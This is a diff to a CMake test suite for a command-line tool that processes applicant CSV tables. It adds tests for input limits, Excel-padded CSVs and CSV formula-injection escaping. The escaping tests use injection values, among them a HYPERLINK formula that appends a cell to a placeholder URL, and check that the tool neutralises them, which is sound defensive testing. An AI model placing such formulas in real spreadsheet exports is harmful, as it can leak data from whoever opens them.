@@ -155,6 +155,12 @@ add_test(NAME cli.import_lrmx_limits
   COMMAND ${_ck_cli_python} ${_d}/check_import_lrmx.py $<TARGET_FILE:cadrekit_cli>
           ${PROJECT_SOURCE_DIR} ${_tmp}/import_lrmx)
 
+# Input limits: devices and files over table.max_bytes / policy.max_bytes refused before they
+# are read; a 10^6-column header read in linear time (tests/cli/check_limits.py).
+add_test(NAME cli.input_limits
+  COMMAND ${_ck_cli_python} ${_d}/check_limits.py $<TARGET_FILE:cadrekit_cli> ${_tmp}/limits)
+set_tests_properties(cli.input_limits PROPERTIES TIMEOUT 300)
+
 # --- compare: the same inputs under two profiles. 优秀 at 5,000 instead of 4,000: P01 (full
 # year) +1,000, P04 (from July, in post when graded: performance pay in full, proration none)
 # +1,000; budget performance 10,000 → 12,000, total 38,000 → 40,000. Everyone else is
@@ -184,6 +190,29 @@ ck_cli(table_bom_crlf_same
   "-DARGS=village|select|--applicants|${_d}/applicants_excel.csv|--as-of|2016-12-31"
   "-DSAME_ARGS=village|select|--applicants|${_d}/applicants.csv|--as-of|2016-12-31"
   "-DEXPECT_OUT=^cadre_id,eligible,failed\nA1,true,\n")
+# CSV as Excel writes a sheet it once used (unnamed trailing columns, padded and short rows, a
+# row of separators only, a blank line, no final newline): the same answer as the plain table,
+# and one note on standard error accounting for what was not data. An unnamed column before a
+# named one is still an error (exit 2).
+ck_cli(table_excel_padding_same
+  "-DARGS=village|select|--applicants|${_d}/applicants_excel_padded.csv|--as-of|2016-12-31"
+  "-DSAME_ARGS=village|select|--applicants|${_d}/applicants.csv|--as-of|2016-12-31"
+  "-DEXPECT_OUT=^cadre_id,eligible,failed\nA1,true,\n")
+ck_cli(table_excel_padding_noted
+  "-DARGS=village|select|--applicants|${_d}/applicants_excel_padded.csv|--as-of|2016-12-31"
+  "-DEXPECT_ERR=^cadrekit: note: [^\n]*applicants_excel_padded.csv: 2 empty rows skipped \\(blank or separators only\\); 3 unnamed columns at the end of the header ignored\n$"
+  -DERR_LINES=1)
+ck_cli(table_unnamed_column_refused
+  "-DARGS=village|select|--applicants|${_d}/applicants_unnamed_column.csv|--as-of|2016-12-31" -DEXPECT_RC=2
+  "-DEXPECT_ERR=an empty column name")
+# CSV for spreadsheets: text that Excel would run as a formula gets a leading apostrophe (quoted
+# where it holds a quote); a plain number ("-2") stays a number; --raw-cells writes cells as they are.
+ck_cli(table_formula_cells_as_text
+  "-DARGS=village|select|--applicants|${_d}/applicants_formula.csv|--as-of|2016-12-31"
+  "-DEXPECT_OUT=^cadre_id,eligible,failed\n\"'=HYPERLINK\\(\"\"http://example.invalid/\"\"&A1\\)\",[a-z]+,[^\n]*\n'\\+1\\+1,[^\n]*\n'@SUM\\(A1\\),[^\n]*\n-2,[^\n]*\n$")
+ck_cli(table_raw_cells
+  "-DARGS=village|select|--applicants|${_d}/applicants_formula.csv|--as-of|2016-12-31|--raw-cells"
+  "-DEXPECT_OUT=\n\\+1\\+1,[^\n]*\n@SUM\\(A1\\),")
 # Three years near the bottom instead of two: C1 (last in 2015 and 2016 only) no longer crosses
 # the annual red line; the other three hits stay. The planted kind "yearly" is still reported.
 ck_cli(compare_assessment_screen
